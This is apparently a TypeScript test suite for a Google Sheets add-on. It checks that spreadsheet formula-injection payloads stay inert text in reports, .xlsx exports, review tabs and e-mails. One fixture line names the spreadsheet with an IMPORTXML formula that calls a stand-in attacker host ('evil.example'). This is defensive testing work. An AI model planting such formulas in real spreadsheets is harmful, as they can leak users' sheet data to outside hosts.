// Every output path of build/Code.js run with formula payloads and texts Sheets would retype
// (test/fixtures/formula-payloads.ts): report tabs and their .xlsx, the run history, the query
// export tab and .xlsx, the PDF results tab, the consolidation review tabs, the Master append and
// the e-mail. Each tab reads back exactly what was meant (text stays text, numbers are numbers,
// dates are dates) and no output holds a formula the add-on did not mean to write.
import {join} from 'node:path';
import ExcelJS from 'exceljs';
import {createWorld, type World} from '../emulator/world';
import {
  COSTOS_FIJOS_HEADERS,
  COSTOS_FIJOS_TAB,
  addMaster,
  checkDigit,
  generateMaster,
} from '../fixtures/master';
import {companionOf} from '../fixtures/companion';
import {generatedExports, toXlsx} from '../fixtures/exports';
import {ALL_PAYLOADS, TYPED_LOOKALIKES} from '../fixtures/formula-payloads';
import {XLSX_MIME, type DriveItem} from '../emulator/drive';
import type {SheetData, SpreadsheetData} from '../emulator/spreadsheet';
import type {ExportResult} from '../../src/common/master-api';
import type {ReportRunResult} from '../../src/common/report-api';
import type {Settings} from '../../src/common/settings';
import type {
  AppendResult,
  ConsolidationReview,
} from '../../src/common/consolidation-api';
import type {PdfJobStatusDto} from '../../src/common/pdf-api';

const BUNDLE = join(__dirname, '../../build/Code.js');
const isDate = (v: unknown): v is Date =>
  Object.prototype.toString.call(v) === '[object Date]';
/** What the add-on reads from a Master cell: its text, trimmed (cell-values.ts textOf). */
const meant = (p: string) => p.trim();

interface Out {
  world: World;
  ss: SpreadsheetData;
  run: <T>(name: string, ...args: unknown[]) => T;
  inFolder: () => DriveItem[];
  clients: string[];
}

/** A Master whose Costos Fijos clients are the payloads, an export folder, PDFs in payload-named folders. */
function setup(): Out {
  const world = createWorld({now: Date.UTC(2025, 9, 1, 13)});
  const master = generateMaster({rows: 60, seed: 7});
  const tab = master.tabs.find(t => t.name === COSTOS_FIJOS_TAB)!;
  const client = tab.columns[COSTOS_FIJOS_HEADERS.indexOf('Cliente')];
  const nit = tab.columns[COSTOS_FIJOS_HEADERS.indexOf('Nit')];
  const rows = master.rows.filter(r => r.tab === 'costosFijos');
  const clients: string[] = [];
  ALL_PAYLOADS.forEach((p, i) => {
    // A NIT of its own, so the report's per-client section lists every payload name.
    const base = String(700000000 + i);
    client[rows[i].sheetRow - 1] = p;
    nit[rows[i].sheetRow - 1] = `${base}-${checkDigit(base)}`;
    clients.push(p);
  });
  const ss = addMaster(world.spreadsheets, master);
  ss.name = '=IMPORTXML("https://evil.example","//a") Master';
  const exportFolder = world.driveStore.addFolder({name: 'Exportaciones'});
  const pdfRoot = world.driveStore.addFolder({name: 'Facturas'});
  ALL_PAYLOADS.forEach((p, i) => {
    const folder = world.driveStore.addFolder({name: p, parents: [pdfRoot.id]});
    world.driveStore.addFile({
      name: `${rows[i].factura}.pdf`,
      parents: [folder.id],
      mimeType: 'application/pdf',
    });
  });
  const addon = world.loadAddon(BUNDLE);
  const run = <T>(name: string, ...args: unknown[]) => addon.run<T>(name, args);
  const settings = run<Settings>('getSettings');
  run('saveSettings', {
    ...settings,
    exportFolder: exportFolder.id,
    pdfRootFolders: [pdfRoot.id],
    reportRecipients: ['cartera@finkargo.com'],
  });
  const inFolder = (): DriveItem[] =>
    [...world.driveStore.childIds(exportFolder.id)].map(id =>
      world.driveStore.get(id)!,
    );
  return {world, ss, run, inFolder, clients};
}

/** Every value of a tab, as getValues would give it (Dates for date cells). */
function values(
  world: World,
  ss: SpreadsheetData,
  sheet: SheetData,
): unknown[][] {
  return world.emulator.run('FULL', () =>
    world.services.SpreadsheetApp.openById(ss.id)
      .getSheetByName(sheet.name)!
      .getDataRange()
      .getValues(),
  );
}

/** A tab holds no formula and reads back with every payload as its exact text. */
function expectInert(
  world: World,
  ss: SpreadsheetData,
  sheet: SheetData,
  texts: readonly string[],
): unknown[][] {
  expect({tab: sheet.name, formulas: [...sheet.formulas.values()]}).toEqual({
    tab: sheet.name,
    formulas: [],
  });
  const grid = values(world, ss, sheet);
  const strings = new Set(grid.flat().filter(v => typeof v === 'string'));
  const lost = texts.filter(t => !strings.has(t));
  expect({tab: sheet.name, lost}).toEqual({tab: sheet.name, lost: []});
  return grid;
}

/** An .xlsx holds no formula, and every payload is there as a text cell. */
async function expectInertXlsx(
  bytes: Uint8Array,
  texts: readonly string[],
): Promise<void> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  const formulas: string[] = [];
  const strings = new Set<string>();
  wb.eachSheet(ws =>
    ws.eachRow(row =>
      row.eachCell(cell => {
        if (cell.type === ExcelJS.ValueType.Formula)
          formulas.push(`${ws.name}!${cell.address}`);
        if (typeof cell.value === 'string') strings.add(cell.value);
      }),
    ),
  );
  expect(formulas).toEqual([]);
  expect(texts.filter(t => !strings.has(t))).toEqual([]);
}

const CLIENT_TEXTS = ALL_PAYLOADS.map(meant);

describe('outputs stay inert and read back as meant (through build/Code.js)', () => {
  it('report tabs, their .xlsx, the run history and the e-mail', async () => {
    const {world, ss, run, inFolder} = setup();
    const r = run<ReportRunResult>('generateReport', {
      exportFormat: 'xlsx',
      sendEmail: true,
    });
    expect(r.status).toBe('done');
    const wb = companionOf(world, ss.id);
    const resumen = wb.sheetByName(r.tabs.find(t => t.id === 'resumen')!.name)!;
    const grid = expectInert(world, wb, resumen, CLIENT_TEXTS);
    // Month labels stay labels ("sep-2025"), amounts are numbers.
    const monthRow = grid.findIndex(row => row[0] === 'Mes');
    const firstMonth = grid[monthRow + 1];
    expect(firstMonth[0]).toMatch(/^[a-z]{3}-\d{4}$/);
    expect(typeof firstMonth[1]).toBe('number');
    for (const t of r.tabs) {
      const sheet = wb.sheetByName(t.name)!;
      expectInert(world, wb, sheet, []);
      // Only columns the report formats as dates hold Dates.
      const dates = values(world, wb, sheet).flat().filter(isDate);
      if (t.id !== 'cartera')
        expect({tab: t.name, dates}).toEqual({tab: t.name, dates: []});
    }
    const history = wb.sheets.find(s => s.name.startsWith('Historial'))!;
    const hist = expectInert(world, wb, history, []);
    expect(isDate(hist[1][0])).toBe(true); // the start is written as a Date, meant as one
    expect(typeof hist[1][1]).toBe('string');
    const files = inFolder().filter(f => f.mimeType === XLSX_MIME);
    expect(files).toHaveLength(1);
    await expectInertXlsx(world.driveStore.bytes(files[0]), CLIENT_TEXTS);
    const mail = world.outbox.sent.at(-1)!;
    // Names from the user's files are made inert; no line of the body can start a formula.
    expect(mail.body).toContain("«'=IMPORTXML(");
    expect(mail.subject).toContain("- '=IMPORTXML(");
    expect(mail.body.split('\n').filter(l => /^[\s]*[=+\-@]/.test(l))).toEqual(
      [],
    );
  });

  it('the query export tab and its .xlsx: text as text, Fila a number, dates as dates', async () => {
    const {world, ss, run, inFolder} = setup();
    const result = run<ExportResult>('exportQuery', {});
    const wb = companionOf(world, ss.id);
    const sheet = wb.sheetByName(result.sheetName)!;
    const grid = expectInert(world, wb, sheet, CLIENT_TEXTS);
    const header = grid[0] as string[];
    const row = grid[1];
    expect(typeof row[header.indexOf('Fila')]).toBe('number');
    expect(isDate(row[header.indexOf('Fecha factura')])).toBe(true);
    for (const text of TYPED_LOOKALIKES)
      expect(grid.some(r => r[header.indexOf('Cliente')] === text)).toBe(true);
    const files = inFolder().filter(f => f.name === result.fileName);
    expect(files).toHaveLength(1);
    await expectInertXlsx(world.driveStore.bytes(files[0]), CLIENT_TEXTS);
  });

  it('the PDF results tab: file, folder and invoice texts as text', () => {
    const {world, ss, run, clients} = setup();
    let status = run<PdfJobStatusDto>('refreshPdfIndex', {full: true});
    for (let i = 0; i < 5 && status.state !== 'done'; i++)
      status = run<PdfJobStatusDto>('refreshPdfIndex', {});
    expect(status.state).toBe('done');
    const numbers = [...world.driveStore.items.values()]
      .filter(i => i.name.endsWith('.pdf'))
      .map(i => i.name.replace(/\.pdf$/, ''));
    const out = run<{sheetName: string; rows: number}>(
      'writePdfResultsSheet',
      numbers.join('\n'),
    );
    expect(out.rows).toBe(clients.length);
    const wb = companionOf(world, ss.id);
    const sheet = wb.sheetByName(out.sheetName)!;
    // Folder paths hold the payload folder names (Drive keeps them as given).
    const grid = expectInert(world, wb, sheet, []);
    const folders = grid.slice(1).map(r => String(r[3]));
    for (const p of ALL_PAYLOADS)
      expect(folders.some(f => f.includes(p))).toBe(true);
    expect(grid.flat().filter(isDate)).toEqual([]);
  });

  it('consolidation review tabs and the Master append', async () => {
    const {world, ss, run} = setup();
    const {workbooks} = generatedExports(
      ALL_PAYLOADS.length * 3,
      5,
      ALL_PAYLOADS,
    );
    // Clients of Costos Fijos invoices (FE...): the Mandato tab has no client column.
    const noova = workbooks[0].sheets[0].values.slice(1);
    const feClients = [
      ...new Set(
        noova
          .filter(r => String(r[1]).startsWith('FE'))
          .map(r => meant(String(r[3]))),
      ),
    ];
    expect(feClients.length).toBeGreaterThan(ALL_PAYLOADS.length / 2);
    const folder = world.driveStore.addFolder({name: 'Exports'});
    for (const wb of workbooks)
      world.driveStore.addFile({
        name: wb.fileName,
        parents: [folder.id],
        mimeType: XLSX_MIME,
        content: new Uint8Array(await toXlsx(wb)),
      });
    const review = run<ConsolidationReview>('consolidateExports', {
      folder: `https://drive.google.com/drive/folders/${folder.id}`,
    });
    const wb = companionOf(world, ss.id);
    const tabs = review.reviewTabs.map(t => wb.sheetByName(t.sheetName)!);
    const reviewed = new Set<string>();
    for (const sheet of tabs)
      for (const v of values(world, wb, sheet).flat())
        if (typeof v === 'string') reviewed.add(v);
    for (const sheet of tabs) expectInert(world, wb, sheet, []);
    // Each payload client is in a review tab as its text (Noova's cell, trimmed by the reader).
    expect(feClients.filter(t => !reviewed.has(t))).toEqual([]);
    const before = new Map(
      ss.sheets.map(s => [s.name, s.formulas.size] as const),
    );
    const appended = run<AppendResult>('appendToMaster', review.reviewId, true);
    expect(appended.appended.reduce((n, a) => n + a.rows, 0)).toBeGreaterThan(
      0,
    );
    for (const a of appended.appended) {
      const sheet = ss.sheetByName(a.masterTab)!;
      expect(sheet.formulas.size).toBe(before.get(a.masterTab));
    }
    // The Costos Fijos rows appended carry each payload client as its exact text.
    const cf = appended.appended.find(a => a.masterTab === COSTOS_FIJOS_TAB)!;
    const added = values(world, ss, ss.sheetByName(COSTOS_FIJOS_TAB)!)
      .slice(cf.firstRow - 1, cf.firstRow - 1 + cf.rows)
      .map(r => r[COSTOS_FIJOS_HEADERS.indexOf('Cliente')]);
    expect(added.length).toBeGreaterThan(10);
    expect(new Set(added)).toEqual(new Set(feClients));
  });
});
